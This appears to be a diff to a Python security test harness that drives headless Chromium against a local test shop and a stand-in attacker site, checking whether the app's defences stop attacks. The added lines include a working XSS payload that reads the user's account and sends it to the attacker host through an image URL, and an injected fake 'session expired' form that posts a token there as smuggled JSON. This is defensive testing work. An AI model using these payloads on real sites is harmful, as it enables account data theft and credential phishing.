@@ -1,4 +1,4 @@
-"""The victim's browser: headless Chromium, a piece of the internet on the loopback address, and three attacks.
+"""The victim's browser: headless Chromium, a piece of the internet on the loopback address, and what is done to it.
 
     https://shop.test        the app, behind a proxy that ends TLS, and a front page to sign in on
     https://evil.test        the attacker's pages, on another site
@@ -17,6 +17,7 @@ import logging
 import shutil
 import ssl
 import threading
+import time
 from collections.abc import Iterator
 from contextlib import ExitStack, contextmanager, suppress
 from http.client import HTTPConnection
@@ -62,12 +63,25 @@ FRAME = f"""<!doctype html><title>A prize for you</title>
 <h1>Click here for your prize</h1><iframe src="{ORIGIN}/api/shelves" width="900" height="400"></iframe>"""
 PAGES = {"/form": FORM, "/read": READ, "/frame": FRAME}
 
-SIGN_IN = """async who => {
+SIGN_IN = """async ([path, who]) => {
   const token = (await (await fetch("/api/auth/csrf")).json()).csrf_token
   const headers = {"Content-Type": "application/json", "X-CSRF-Token": token}
-  return (await fetch("/api/auth/login", {method: "POST", headers, body: JSON.stringify(who)})).status
+  return (await fetch(path, {method: "POST", headers, body: JSON.stringify(who)})).status
 }"""
 LOOK = "async path => (await fetch(path)).text()"
+SCRIPT = f"""<img src="/nowhere" onerror="
+  fetch('/api/users/me').then(answer => answer.text()).then(text => {{
+    const image = new Image()
+    image.onload = image.onerror = () => {{ window.sent = text }}
+    image.src = '{OTHER_SITE}/?' + encodeURIComponent(text)
+  }})">"""
+ASK_FOR_THE_TOKEN = f"""<form action="{OTHER_SITE}/loot" method="post" enctype="text/plain" target="_blank">
+<label>Your session has expired. Please enter your token: <input id="typed"></label><button id="send">Authorize</button>
+</form>"""
+PUT_IN = """html => {
+  document.addEventListener("securitypolicyviolation", event => { window.refused = event.effectiveDirective })
+  document.body.insertAdjacentHTML("afterbegin", html)
+}"""
 
 
 class NoChromium(Exception):
@@ -185,13 +199,15 @@ class Chromium:
         self._page.context.clear_cookies()
         return Victim(self._internet, self._page)
 
-    def victim(self, shop: Shop, name: str) -> "Victim":
-        """The sample user `name`, signed in to `shop` on its own page; raises Failure where that does not work."""
+    def victim(self, shop: Shop, name: str, path: str = "/api/auth/login") -> "Victim":
+        """The sample user `name`, signed in to `shop` on its own page, at `path`; raises Failure where that does not
+        work.
+        """
         victim = self.visitor(shop)
         who = {"email": f"{name}@example.org", "password": accounts.password(name)}
         with understood():
             victim.visit("/")
-            status = self._page.evaluate(SIGN_IN, who)
+            status = self._page.evaluate(SIGN_IN, [path, who])
         if status != 200:
             kind = Exhausted if status == 429 else Failure
             raise kind(f"signing in on a page of the shop has to answer 200, and answers {status}")
@@ -242,6 +258,47 @@ class Victim:
             names = [shelf["name"] for shelf in json.loads(text)["items"]]
             return Loot(f"in a frame of {attacker}: the shelves {', '.join(map(repr, names))}")
         return Stopped(f"the frame stays empty: {' '.join(text.split()) or frame.url}")
+
+    def script_put_in(self, path: str) -> Outcome:
+        """Somebody's text has got into the page at `path`, with a script in it, which sends home who the reader is."""
+        with understood():
+            self.visit(path)
+            self.page.evaluate(PUT_IN, SCRIPT)
+            sent = refused = None
+            until = time.monotonic() + TIMEOUT_SECONDS
+            while not (sent or refused) and time.monotonic() < until:  # `wait_for_function` is `eval` to a policy
+                self.page.wait_for_timeout(50)
+                sent, refused = self.page.evaluate("[window.sent, window.refused]")
+        if sent:
+            account = json.loads(sent)
+            return Loot(f"sent home to {OTHER_SITE}: {account['name']}, {account['email']}, {account['age']} years old")
+        if not refused:
+            raise Failure("a script that was put into the page neither runs nor is refused")
+        return Stopped(f"the browser does not run it: {refused}")
+
+    def form_put_in(self, path: str, token: str) -> Outcome:
+        """Somebody's text has got into the page at `path`, with a form in it, into which the reader types a token."""
+        with understood():
+            self.visit(path)
+            self.page.evaluate(PUT_IN, ASK_FOR_THE_TOKEN)
+            self.page.locator("#typed").fill(token)
+            # a form that is text is JSON, if its one field is called so that it comes out as that
+            self.page.evaluate("""() => {
+                const typed = document.getElementById("typed")
+                typed.name = '{"typed": "'
+                typed.value += '"}'
+            }""")
+            self.page.locator("#send").click()
+            refused = None
+            until = time.monotonic() + TIMEOUT_SECONDS
+            while not (self._internet.loot or refused) and time.monotonic() < until:
+                self.page.wait_for_timeout(50)
+                refused = self.page.evaluate("window.refused")
+        if self._internet.loot:
+            return Loot(f"sent home to {OTHER_SITE}: the token {self._internet.loot[-1]['typed'].strip('=')[:24]}…")
+        if not refused:
+            raise Failure("a form that was put into the page is neither sent nor refused")
+        return Stopped(f"the browser does not send it: {refused}")
 
 
 @contextmanager
